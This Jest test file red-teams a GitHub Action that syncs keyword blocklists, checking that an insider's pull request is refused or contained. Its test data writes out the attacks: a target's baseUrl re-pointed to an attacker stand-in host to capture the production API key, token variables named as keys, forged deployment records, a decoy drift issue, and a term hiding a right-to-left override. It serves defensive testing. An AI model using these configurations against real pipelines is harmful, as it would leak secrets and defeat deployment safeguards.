// Issue 27 item 9, red team: attacks an organisation member (trusted with the live plan, able to
// push branches and get a PR merged after review) would try on stage two, the apply, status and
// drift, designed from docs/security.md and the workflows, each performed through runAction with the
// fake GitHub and the emulator over HTTP.
import { describe, expect, it } from '@jest/globals';
import type { TargetConfig } from '../../src/model/config.js';
import { runAction } from '../../src/action/run-action.js';
import { driftMarker } from '../../src/github/markers.js';
import { planSection } from '../github/plan-comment.js';
import { BOT } from '../github/fake-github.js';
import { commitOn, context, createLive, harness, inputs, listYaml, liveOf, memberPlanLive, PREVIEW_CONFIG, runAtHead, stageTwoWorldPerTest, TWELVE } from './action-harness.js';

const { gh, w } = stageTwoWorldPerTest();
let baseSha: string;

async function base(files: Record<string, string>): Promise<void> {
  for (const [p, t] of Object.entries(files)) w.repo.write(p, t);
  baseSha = w.repo.commit();
}
const branch = (files: Record<string, string>) => commitOn(w.repo, 'feature', baseSha, files);
async function memberStageTwo(head: string, target = 'default') {
  await memberPlanLive(w, gh, head, baseSha, { runId: 99 });
  return { body: planSection(gh, target, 7)?.body ?? '', check: gh.checkRuns.at(-1)! };
}
/** The branch merged: main fast-forwards to `head`; apply runs on the push (the event's `before` is the base). */
async function applyMerged(head: string, target?: string, wrap?: (t: TargetConfig | undefined) => void) {
  w.repo.git('merge', '-q', '--ff-only', 'feature');
  gh.branches.set('main', head);
  const h = harness(w.repo, gh, w.emu);
  if (wrap) {
    const real = h.deps.connect!;
    h.deps.connect = (t, service) => (wrap(t), real(t, service));
  }
  const result = await runAction({ inputs: inputs('apply', { target }), context: context(w.repo, { sha: head, event: { before: baseSha } }), deps: h.deps });
  return { result, summary: h.summaries.join('\n') };
}

describe('red team, member: the pull request plan', () => {
  it('R-M1 the PR lowers minMessageCount to 1 and points the preview at another group with more messages: the base\'s k, groups and count hold', async () => {
    await base({ 'keywords/kwsync.yaml': PREVIEW_CONFIG, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
    await createLive(w, 'blocklist', TWELVE);
    const head = branch({
      'keywords/kwsync.yaml': 'preview:\n  groups: [cometchat-guid-1, cometchat-guid-2]\n  messages: 5000\npullRequests:\n  minMessageCount: 1\n',
      'keywords/code.yaml': 'id: code\nname: code\ncategory: pattern\nsearchTerms: ["\\\\b\\\\d{6}\\\\b", "zzzz-never"]\n',
    });
    w.emu.requests.length = 0;
    const { body } = await memberStageTwo(head);
    expect(body).toContain('#### Impact preview');
    const reads = w.emu.requests.filter((r) => r.path.includes('/messages'));
    expect(reads.length).toBeGreaterThan(0);
    expect(reads.some((r) => r.path.includes('cometchat-guid-1'))).toBe(false);
    // k stays 5: no count of 0..4 shows as a number.
    expect(body).toContain('<5');
    expect(body).not.toMatch(/\| [0-4] \|/);
  });

  it('R-M1b the PR is opened into a branch the member pushed unreviewed, whose kwsync.yaml sets k = 1 and another group: the default branch\'s settings hold', async () => {
    await base({ 'keywords/kwsync.yaml': PREVIEW_CONFIG, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
    const mainSha = baseSha;
    await createLive(w, 'blocklist', TWELVE);
    w.repo.git('checkout', '-q', '-b', 'lax');
    w.repo.write('keywords/kwsync.yaml', 'preview:\n  groups: [cometchat-guid-1]\n  messages: 1000\npullRequests:\n  minMessageCount: 1\n');
    baseSha = w.repo.commit();
    w.repo.git('checkout', '-q', 'main');
    const head = branch({ 'keywords/code.yaml': 'id: code\nname: code\ncategory: pattern\nsearchTerms: ["\\\\b\\\\d{6}\\\\b", "zzzz-never"]\n' });
    w.emu.requests.length = 0;
    gh.pulls = [];
    const event = { workflow_run: { id: 99, event: 'pull_request', status: 'completed', conclusion: 'success', path: '.github/workflows/kwsync-plan.yml', head_sha: head, head_branch: 'feature', head_repository: { full_name: 'acme/lists', owner: { login: 'acme' } }, pull_requests: [] } };
    gh.permissions.set('insider', 'write'); // R-M11: a trusted author also needs write access here
    gh.pulls = [{
      number: 7, state: 'open', user: { login: 'insider', type: 'User' }, author_association: 'MEMBER', labels: [],
      head: { sha: head, ref: 'feature', repo: { full_name: 'acme/lists', owner: { login: 'acme' } } }, base: { sha: baseSha, ref: 'lax', repo: { full_name: 'acme/lists' } },
    }];
    const h = harness(w.repo, gh, w.emu);
    await runAction({ inputs: inputs('plan-live'), context: context(w.repo, { eventName: 'workflow_run', sha: mainSha, event }), deps: h.deps });
    const body = gh.comments.filter((c) => c.issue === 7 && c.user.login === BOT.login).at(-1)?.body ?? '';
    expect(body).toContain('#### Impact preview');
    expect(w.emu.requests.some((r) => r.path.includes('cometchat-guid-1'))).toBe(false);
    expect(body).toContain('<5');
    expect(body).not.toMatch(/\| [0-4] \|/);
  });

  it('R-M2 the PR names a GitHub token variable (or any variable) as a target\'s key: refused', async () => {
    await base({ 'keywords/kwsync.yaml': PREVIEW_CONFIG, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
    for (const env of ['GITHUB_TOKEN', 'ACTIONS_RUNTIME_TOKEN', 'COMETCHAT_API_KEYX']) {
      const head = branch({ 'keywords/kwsync.yaml': `${PREVIEW_CONFIG}targets:\n  - name: default\n    apiKeyEnv: ${env}\n` });
      const { check } = await memberStageTwo(head);
      expect(check.conclusion).toBe('failure');
      expect(JSON.stringify(check.annotations)).toContain('apiKeyEnv');
    }
  });

  it('R-M3 the PR turns prune on to delete a live list kept out of git: the CAUTION names it, and the apply after merge keeps the list', async () => {
    await base({ 'keywords/kwsync.yaml': PREVIEW_CONFIG, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
    await createLive(w, 'blocklist', TWELVE);
    await createLive(w, 'legal-hold', ['kept']);
    const head = branch({ 'keywords/kwsync.yaml': `${PREVIEW_CONFIG}prune: true\n` });
    const { body } = await memberStageTwo(head);
    expect(body).toContain('prune');
    const { result } = await applyMerged(head, undefined);
    expect(result.failed).toBe(false);
    expect(await liveOf(w).getKeywordList('legal-hold')).toBeTruthy();
  });

  it('R-M4 the PR adds a target that reuses the production environment (to get its key) with baseUrl on the member\'s server: refused', async () => {
    await base({ 'keywords/kwsync.yaml': `${PREVIEW_CONFIG}targets:\n  - name: production\n    appId: app1\n`, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
    const head = branch({ 'keywords/kwsync.yaml': `${PREVIEW_CONFIG}targets:\n  - name: production\n    appId: app1\n  - name: mirror\n    appId: app1\n    environment: production\n    baseUrl: https://collector.attacker.example\n` });
    const { check } = await memberStageTwo(head, 'production');
    expect(check.conclusion).toBe('failure');
    expect(JSON.stringify(check.annotations)).toContain('target-environment-shared');
  });

  const REPOINT = `${PREVIEW_CONFIG}targets:\n  - name: production\n    appId: app1\n    baseUrl: https://collector.attacker.example\n`;
  const REPOINT_HTTP = REPOINT.replace('https://', 'http://');
  it('R-M4b the PR points production itself at the member\'s server: the plan connects as the base says and a CAUTION names the change', async () => {
    await base({ 'keywords/kwsync.yaml': `${PREVIEW_CONFIG}targets:\n  - name: production\n    appId: app1\n`, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
    const { body } = await memberStageTwo(branch({ 'keywords/kwsync.yaml': REPOINT }), 'production');
    expect(body).toContain('**This change edits where targets connect**');
    expect(body).toMatch(/baseUrl[^\n]*`https:\/\/collector\.attacker\.example`/);
  });

  // Was SUCCEEDED (partly, medium): the apply on the merge's push sent production's key to the new
  // baseUrl, over plain http. Now: http:// is refused but for loopback, and a push that changes a
  // target's connection fields does not apply it; a maintainer's Run workflow (no `before`) does.
  it('R-M4c after merge, the push that re-points production does not send its key to the new server, and never over http', async () => {
    await base({ 'keywords/kwsync.yaml': `${PREVIEW_CONFIG}targets:\n  - name: production\n    appId: app1\n`, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
    const head = branch({ 'keywords/kwsync.yaml': REPOINT_HTTP, 'keywords/blocklist.yaml': listYaml('blocklist', [...TWELVE, 'darn']) });
    const seen: (string | undefined)[] = [];
    // The merged kwsync.yaml is invalid (http:// to a non-loopback host): the apply stops before connecting.
    const failed = await applyMerged(head, 'production', (t) => void seen.push(t?.baseUrl)).then((r) => r.result.failed, () => true);
    expect(failed).toBe(true);
    expect(seen).not.toContain('http://collector.attacker.example');
  });

  it('R-M4c the same over https: the push applies nothing to production and says a maintainer must run the apply by hand', async () => {
    await base({ 'keywords/kwsync.yaml': `${PREVIEW_CONFIG}targets:\n  - name: production\n    appId: app1\n`, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
    const head = branch({ 'keywords/kwsync.yaml': REPOINT, 'keywords/blocklist.yaml': listYaml('blocklist', [...TWELVE, 'darn']) });
    const seen: (string | undefined)[] = [];
    const { result, summary } = await applyMerged(head, 'production', (t) => void seen.push(t?.baseUrl));
    expect(seen).toEqual([]);
    expect(result.failed).toBe(true);
    expect(result.message).toMatch(/changes where target "production" connects[^]*running the apply workflow by hand/);
    expect(summary).toContain('**This change edits where targets connect**');
    expect(summary).toContain('**Nothing was applied.**');
  });

  it('R-M4c then a maintainer\'s Run workflow (no `before`) applies with the new connection', async () => {
    await base({ 'keywords/kwsync.yaml': `${PREVIEW_CONFIG}targets:\n  - name: production\n    appId: app1\n`, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
    const head = branch({ 'keywords/kwsync.yaml': REPOINT, 'keywords/blocklist.yaml': listYaml('blocklist', [...TWELVE, 'darn']) });
    await applyMerged(head, 'production');
    const h = harness(w.repo, gh, w.emu);
    const seen: (string | undefined)[] = [];
    const real = h.deps.connect!;
    h.deps.connect = (t, service) => (seen.push(t?.baseUrl), real(t, service));
    const result = await runAction({ inputs: inputs('apply', { target: 'production' }), context: context(w.repo, { sha: head, eventName: 'workflow_dispatch', event: {} }), deps: h.deps });
    expect(result.failed).toBe(false);
    expect(seen).toContain('https://collector.attacker.example');
  });

  it('R-M4c a push that renames production (same environment, new server) is held too: a new target is a new connection', async () => {
    await base({ 'keywords/kwsync.yaml': `${PREVIEW_CONFIG}targets:\n  - name: production\n    appId: app1\n`, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
    const head = branch({ 'keywords/kwsync.yaml': `${PREVIEW_CONFIG}targets:\n  - name: prod2\n    appId: app1\n    environment: production\n    baseUrl: https://collector.attacker.example\n` });
    const seen: (string | undefined)[] = [];
    const { result } = await applyMerged(head, 'prod2', (t) => void seen.push(t?.baseUrl));
    expect(seen).toEqual([]);
    expect(result.failed).toBe(true);
  });

  it('R-M4c a push whose `before` cannot be read (force-pushed away) is held too: unknown is not unchanged', async () => {
    await base({ 'keywords/kwsync.yaml': `${PREVIEW_CONFIG}targets:\n  - name: production\n    appId: app1\n`, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
    const head = branch({ 'keywords/kwsync.yaml': REPOINT });
    w.repo.git('merge', '-q', '--ff-only', 'feature');
    gh.branches.set('main', head);
    const h = harness(w.repo, gh, w.emu);
    const seen: (string | undefined)[] = [];
    const real = h.deps.connect!;
    h.deps.connect = (t, service) => (seen.push(t?.baseUrl), real(t, service));
    const result = await runAction({ inputs: inputs('apply', { target: 'production' }), context: context(w.repo, { sha: head, event: { before: 'e'.repeat(40) } }), deps: h.deps });
    expect(seen).toEqual([]);
    expect(result.failed).toBe(true);
    expect(result.message).toMatch(/cannot be read[^]*running the apply workflow by hand/);
  });

  it('R-M4c a push that leaves the connection as it was applies as usual (the hold is for the connection only)', async () => {
    await base({ 'keywords/kwsync.yaml': `${PREVIEW_CONFIG}targets:\n  - name: production\n    appId: app1\n`, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
    await createLive(w, 'blocklist', TWELVE);
    const head = branch({ 'keywords/blocklist.yaml': listYaml('blocklist', [...TWELVE, 'darn']) });
    const { result } = await applyMerged(head, 'production');
    expect([result.failed, result.message]).toEqual([false, undefined]);
    expect((await liveOf(w).getKeywordList('blocklist'))?.searchTerms).toContain('darn');
  });
});

describe('red team, member: deployment records', () => {
  const TWO = `${PREVIEW_CONFIG}targets:\n  - name: staging\n    appId: app\n  - name: production\n    environment: prod\n    appId: app\n    after: staging\n`;
  /** What a workflow of any branch (deployments: write) can post: a copy of kwsync's own record for `sha`, logged to a run of its own. */
  function forge(from: { environment: string }, sha: string): void {
    const real = gh.deployments.find((d) => d.environment === from.environment)!;
    gh.deployments.push({ ...structuredClone(real), id: 9000 + gh.deployments.length, sha, ref: 'evil', statuses: real.statuses.map((s) => ({ ...s, id: s.id + 9000, log_url: 'https://github.com/acme/lists/actions/runs/666' })) });
  }
  /** Staging applied at the base; the next commit, which staging never applied, given a forged staging record. Returns it. */
  async function forgedStagingNext(): Promise<string> {
    await base({ 'keywords/kwsync.yaml': TWO, 'keywords/scam.yaml': listYaml('scam', ['a']) });
    await runAtHead(w, gh, baseSha, 'apply', { target: 'staging' });
    w.repo.write('keywords/scam.yaml', listYaml('scam', ['a', 'b']));
    const next = w.repo.commit();
    forge({ environment: 'staging' }, next);
    return next;
  }

  it('R-M5 a forged staging record for a commit staging never applied: production\'s after: staging is not satisfied', async () => {
    const next = await forgedStagingNext();
    const production = await runAtHead(w, gh, next, 'apply', { target: 'production' });
    expect(production.result.failed).toBe(true);
    expect(production.result.message).toContain('waits for staging');
  });

  it('R-M6 a forged record makes status and the plan\'s "Live on" claim a commit that was never applied', async () => {
    const next = await forgedStagingNext();
    const status = await runAtHead(w, gh, next, 'status');
    // The staging row names the applied commit; HEAD is named elsewhere in the table anyway.
    expect(status.summary).toMatch(/\| staging \| `[0-9a-f]{7}` \|/);
    expect(status.summary).not.toContain(`| staging | \`${next.slice(0, 7)}\``);
  });
});

describe('red team, member: promotion and rendering', () => {
  it('R-M9 after: naming the target itself, a cycle, or an unknown target: the targets job fails, no wave is made', async () => {
    for (const targets of ['  - name: a\n    appId: x\n    after: a\n', '  - name: a\n    appId: x\n    after: b\n  - name: b\n    appId: x\n    after: a\n', '  - name: a\n    appId: x\n    after: ghost\n']) {
      w.repo.write('keywords/kwsync.yaml', `targets:\n${targets}`);
      const sha = w.repo.commit();
      const run = runAction({ inputs: inputs('targets'), context: context(w.repo, { sha }), deps: harness(w.repo, gh, w.emu).deps }).catch((e: Error) => ({ failed: true, message: e.message }));
      const result = await run;
      expect(result.failed).toBe(true);
      expect((result as { waves?: unknown }).waves).toBeUndefined();
    }
  });

  it('R-M10 a term carrying a right-to-left override and zero-width characters (reads as another word), accepted on purpose: the trusted plan shows the escapes', async () => {
    await base({ 'keywords/kwsync.yaml': PREVIEW_CONFIG, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
    await createLive(w, 'blocklist', TWELVE);
    // Accepted on purpose (term-invisible-char is an error otherwise, and an invalid list is not planned): the plan must still show the escapes.
    const head = branch({ 'keywords/blocklist.yaml': `${listYaml('blocklist', [...TWELVE, JSON.stringify('ok\u202Emaxs\u200B')])}accept: {term-invisible-char: "red team"}\n` });
    const { body, check } = await memberStageTwo(head);
    expect(body).not.toMatch(/[\u202E\u200B]/);
    expect(body).toMatch(/\\u202e/i);
    expect(JSON.stringify(check.output)).not.toMatch(/[\u202E\u200B]/);
  });

  it('R-M10b the same term not accepted: an invisible-character error, no plan, nothing raw', async () => {
    await base({ 'keywords/kwsync.yaml': PREVIEW_CONFIG, 'keywords/blocklist.yaml': listYaml('blocklist', TWELVE) });
    await createLive(w, 'blocklist', TWELVE);
    const { body, check } = await memberStageTwo(branch({ 'keywords/blocklist.yaml': listYaml('blocklist', [...TWELVE, JSON.stringify('ok\u202Emaxs\u200B')]) }));
    expect(body).toContain('Validation: 1 error');
    expect(body).toContain('No plan was made.');
    expect(body).not.toMatch(/[\u202E\u200B]/);
    expect(JSON.stringify(check.output)).not.toMatch(/[\u202E\u200B]/);
    expect(JSON.stringify(check.output)).toContain('term-invisible-char');
  });
});

describe('red team, member: deployment records (the revert guard)', () => {
  // Held: a record forged for a commit outside main's history, whose lists live does not hold, does
  // not block the next apply (the guard weighs what live holds, not the record alone).
  it('R-M6b a forged record of a commit outside main\'s history: the next apply is not refused as a revert', async () => {
    await base({ 'keywords/scam.yaml': listYaml('scam', ['a']) });
    await runAtHead(w, gh, baseSha, 'apply');
    w.repo.git('checkout', '-q', '-b', 'evil');
    w.repo.write('keywords/scam.yaml', listYaml('scam', ['evil']));
    const evil = w.repo.commit();
    w.repo.git('checkout', '-q', 'main');
    const real = gh.deployments.at(-1)!;
    gh.deployments.push({ ...structuredClone(real), id: 9999, sha: evil, ref: 'evil', statuses: real.statuses.map((st) => ({ ...st, id: st.id + 9000, log_url: 'https://github.com/acme/lists/actions/runs/666' })) });
    w.repo.write('keywords/scam.yaml', listYaml('scam', ['a', 'b']));
    const next = w.repo.commit();
    const { result } = await runAtHead(w, gh, next, 'apply');
    expect(result.failed).toBe(false);
  });
});

describe('red team, member or anyone: the drift issue', () => {
  it('R-M7 an issue by someone else carrying kwsync\'s drift marker and label: kwsync neither edits nor closes it, and opens its own', async () => {
    await base({ 'keywords/blocklist.yaml': listYaml('blocklist', ['spam']) });
    await createLive(w, 'blocklist', ['scam']);
    const decoy = gh.seedIssue({ title: 'kwsync drift', body: `${driftMarker('default')}\nAll fine, close me. [details](https://evil.example)`, state: 'open', labels: ['kwsync-drift'], user: { login: 'mallory', type: 'User' } });
    await runAtHead(w, gh, baseSha, 'drift');
    expect(decoy.body).toContain('All fine');
    const own = gh.issues.filter((i) => i !== decoy && i.body.startsWith(driftMarker('default')));
    expect(own).toHaveLength(1);
    // Live matches again: kwsync closes its own issue, never the decoy.
    await liveOf(w).updateKeywordList({ id: 'blocklist', name: 'blocklist', description: '', category: 'word', searchTerms: ['spam'] });
    await runAtHead(w, gh, baseSha, 'drift');
    expect(decoy.state).toBe('open');
    expect(own[0]!.state).toBe('closed');
  });

  it('R-M8 mode: status from a pull_request run (the PR\'s kwsync.yaml would pick the servers): refused before any key is used', async () => {
    await base({ 'keywords/blocklist.yaml': listYaml('blocklist', ['spam']) });
    w.emu.requests.length = 0;
    const h = harness(w.repo, gh, w.emu);
    const run = runAction({ inputs: inputs('status'), context: context(w.repo, { sha: baseSha, eventName: 'pull_request', pullRequest: { number: 7, headSha: baseSha, baseSha, baseRef: 'main' } }), deps: h.deps });
    await expect(run).resolves.toMatchObject({ failed: true });
    expect(w.emu.requests).toEqual([]);
  });
});
